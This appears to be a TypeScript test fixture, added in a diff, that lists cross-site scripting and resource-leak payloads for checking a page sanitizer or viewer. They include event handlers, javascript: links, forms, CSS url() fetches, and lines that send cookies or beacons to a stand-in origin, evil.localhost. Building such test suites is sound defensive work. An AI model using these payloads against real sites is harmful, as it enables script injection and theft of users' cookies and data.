@@ -1,0 +1,137 @@
+/**
+ * What a hostile visitor may put into a page: one list of markup, used as it is in the control and as nodes against the viewer.
+ *
+ * `HARM` marks that a script ran; `EVIL` is an origin that no group lists. `#trap` is clicked.
+ */
+
+export const EVIL = "https://evil.localhost";
+
+const HARM = "top.harmed=1";
+const GIF = "data:image/gif;base64,R0lGODlhAQABAAAAACw=";
+
+/** Script statements, each as a script element and as a handler. */
+const STATEMENTS = [
+  HARM,
+  `top.location='${EVIL}/top'`,
+  `location='${EVIL}/own'`,
+  `fetch('${EVIL}/fetch',{mode:'no-cors'})`,
+  `navigator.sendBeacon('${EVIL}/beacon','x')`,
+  `new Image().src='${EVIL}/image?'+encodeURIComponent(top.document.cookie)`,
+  `new EventSource('${EVIL}/events')`,
+  `open('${EVIL}/window');${HARM}`,
+  `top.document.body.style.zoom=9;${HARM}`,
+  `top.resizeTo(9,9);${HARM}`,
+  `for(const end=Date.now()+300;Date.now()<end;);${HARM}`,
+  `top.document.documentElement.remove();${HARM}`,
+  `document.write('<img src=${EVIL}/written>')`,
+  `setTimeout('${HARM}')`,
+  `new Function('${HARM}')()`,
+  `import('${EVIL}/module')`,
+];
+
+/** Handlers that fire without anybody's help. */
+const HANDLERS = [
+  `<img src="/nowhere" onerror="${HARM}">`,
+  `<img src="/nowhere" OnErRoR="${HARM}">`,
+  `<img src="${GIF}" onload="${HARM}">`,
+  `<svg onload="${HARM}"></svg>`,
+  `<body onload="${HARM}"><p>x</p></body>`,
+  `<body onpageshow="${HARM}"><p>x</p></body>`,
+  `<details open ontoggle="${HARM}"><summary>x</summary></details>`,
+  `<video><source src="/nowhere" onerror="${HARM}"></video>`,
+  `<audio src="/nowhere" onerror="${HARM}"></audio>`,
+  `<video src="/nowhere" onloadstart="${HARM}"></video>`,
+  `<style onload="${HARM}">p{color:red}</style>`,
+  `<link rel="stylesheet" href="/nowhere.css" onerror="${HARM}">`,
+  `<script src="/nowhere.js" onerror="${HARM}"></script>`,
+  `<style>@keyframes k{from{opacity:0}}</style><p style="animation:k .01s" onanimationstart="${HARM}">x</p>`,
+  `<svg><animate onbegin="${HARM}" attributeName="x" dur="1s"></animate></svg>`,
+  `<svg><set onbegin="${HARM}" attributeName="x" to="1"></set></svg>`,
+  `<svg><foreignObject><img src="/nowhere" onerror="${HARM}"></foreignObject></svg>`,
+  `<math><mtext><table><mglyph><style></style></mglyph></table><img src="/nowhere" onerror="${HARM}"></mtext></math>`,
+  `<input type="image" src="/nowhere" onerror="${HARM}">`,
+  `<object data="/nowhere" onerror="${HARM}"></object>`,
+  `<iframe src="about:blank" onload="${HARM}"></iframe>`,
+  `<iframe srcdoc="<script>${HARM}</script>"></iframe>`,
+  `<iframe src="javascript:${HARM}"></iframe>`,
+  `<svg><foreignObject><iframe src="javascript:${HARM}"></iframe></foreignObject></svg>`,
+  `<svg><script>${HARM}</script></svg>`,
+  `<svg><script href="${EVIL}/svg.js"></script></svg>`,
+  `<script type="module">${HARM}</script>`,
+  `<script type="module" src="${EVIL}/m.js"></script>`,
+  `<script src="${EVIL}/s.js"></script>`,
+];
+
+/** What needs a click. */
+const TRAPS = [
+  `<a id="trap" href="javascript:${HARM}">x</a>`,
+  `<a id="trap" href="java&#9;script:${HARM}">x</a>`,
+  `<a id="trap" href="&#1;javascript:${HARM}">x</a>`,
+  `<a id="trap" href="${EVIL}/link">x</a>`,
+  `<a id="trap" href="${EVIL}/link" target="_top">x</a>`,
+  `<a id="trap" href="${EVIL}/link" target="_blank">x</a>`,
+  `<a id="trap" href="#" ping="${EVIL}/ping">x</a>`,
+  `<base target="_top"><a id="trap" href="${EVIL}/base">x</a>`,
+  `<svg><a id="trap" href="javascript:${HARM}"><text y="20">x</text></a></svg>`,
+  `<svg><a id="trap" xlink:href="javascript:${HARM}"><text y="20">x</text></a></svg>`,
+  `<map name="m"><area id="trap" shape="default" href="javascript:${HARM}"></map><img usemap="#m" src="${GIF}">`,
+  `<form action="javascript:${HARM}"><button id="trap">x</button></form>`,
+  `<form action="${EVIL}/form" target="_top"><button id="trap">x</button></form>`,
+  `<form><button id="trap" formaction="javascript:${HARM}">x</button></form>`,
+  `<form id="f"></form><input id="trap" type="submit" form="f" formaction="${EVIL}/formaction">`,
+  `<p id="trap" onclick="${HARM}">x</p>`,
+  `<body onclick="${HARM}"><p id="trap">x</p></body>`,
+  `<label id="trap">x<input type="checkbox" onchange="${HARM}"></label>`,
+];
+
+/** What fetches by itself. */
+const FETCHES = [
+  `<img src="${EVIL}/a.png">`,
+  `<img src="//evil.localhost/a.png">`,
+  `<img srcset="${EVIL}/a.png 1x">`,
+  `<picture><source srcset="${EVIL}/a.png"><img></picture>`,
+  `<video poster="${EVIL}/a.png"></video>`,
+  `<video src="${EVIL}/a.mp4" autoplay muted></video>`,
+  `<video autoplay muted><source src="${EVIL}/a.mp4"></video>`,
+  `<audio src="${EVIL}/a.mp3" preload="auto"></audio>`,
+  `<input type="image" src="${EVIL}/a.png">`,
+  `<body background="${EVIL}/a.png"><p>x</p></body>`,
+  `<table background="${EVIL}/a.png"><tr><td>x</td></tr></table>`,
+  `<svg><image href="${EVIL}/a.png" width="9" height="9"></image></svg>`,
+  `<svg><image xlink:href="${EVIL}/a.png" width="9" height="9"></image></svg>`,
+  `<svg><filter id="f"><feImage href="${EVIL}/a.png"></feImage></filter><rect filter="url(#f)" width="9" height="9"></rect></svg>`,
+  `<svg><style>@import "${EVIL}/a.css";</style></svg>`,
+  `<link rel="stylesheet" href="${EVIL}/a.css">`,
+  `<link rel="preload" as="image" href="${EVIL}/a.png">`,
+  `<link rel="prefetch" href="${EVIL}/a">`,
+  `<link rel="modulepreload" href="${EVIL}/a.js">`,
+  `<iframe src="${EVIL}/frame"></iframe>`,
+  `<iframe srcdoc="<img src='${EVIL}/a.png'>"></iframe>`,
+  `<object data="${EVIL}/a.svg" type="image/svg+xml"></object>`,
+  `<embed src="${EVIL}/a.svg" type="image/svg+xml">`,
+  `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`,
+  `<base href="${EVIL}/"><img src="based.png">`,
+  `<style>@import "${EVIL}/a.css";</style>`,
+  `<style>@font-face{font-family:f;src:url(${EVIL}/a.woff2)}p{font-family:f}</style><p>x</p>`,
+  `<style>input[value^=s]{background:url(${EVIL}/leak)}</style><input value="secret">`,
+  ...[
+    "background:url(U)",
+    "background-image:image-set(url(U) 1x)",
+    "list-style-image:url(U);display:list-item",
+    "border:9px solid;border-image:url(U) 1",
+    "mask-image:url(U)",
+    "shape-outside:url(U);float:left",
+    "background:\\75rl(U)",
+  ].map((style) => `<p style="${style.replace("U", `${EVIL}/style`)}">x</p>`),
+  `<style>p::before{content:url(${EVIL}/content)}</style><p>x</p>`,
+  `<style>@media all{@supports (color:red){p{background:url(${EVIL}/nested)}}}</style><p>x</p>`,
+];
+
+/** All of them. */
+export const PAYLOADS: readonly string[] = [
+  ...STATEMENTS.map((statement) => `<script>${statement}</script>`),
+  ...STATEMENTS.slice(1, 8).map((statement) => `<img src="/nowhere" onerror="${statement}">`),
+  ...HANDLERS,
+  ...TRAPS,
+  ...FETCHES,
+];
